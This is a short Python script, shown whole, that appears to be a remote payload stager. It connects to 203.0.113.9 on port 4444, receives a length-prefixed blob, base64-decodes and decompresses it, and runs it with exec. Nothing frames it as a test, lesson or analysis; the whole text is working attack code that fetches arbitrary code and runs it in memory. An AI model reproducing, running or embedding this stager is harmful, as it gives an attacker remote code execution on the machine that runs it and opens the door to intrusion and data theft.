import socket, struct, zlib, base64
s = socket.socket()
s.connect(("203.0.113.9", 4444))
l = struct.unpack(">I", s.recv(4))[0]
d = s.recv(l)
exec(zlib.decompress(base64.b64decode(d)))
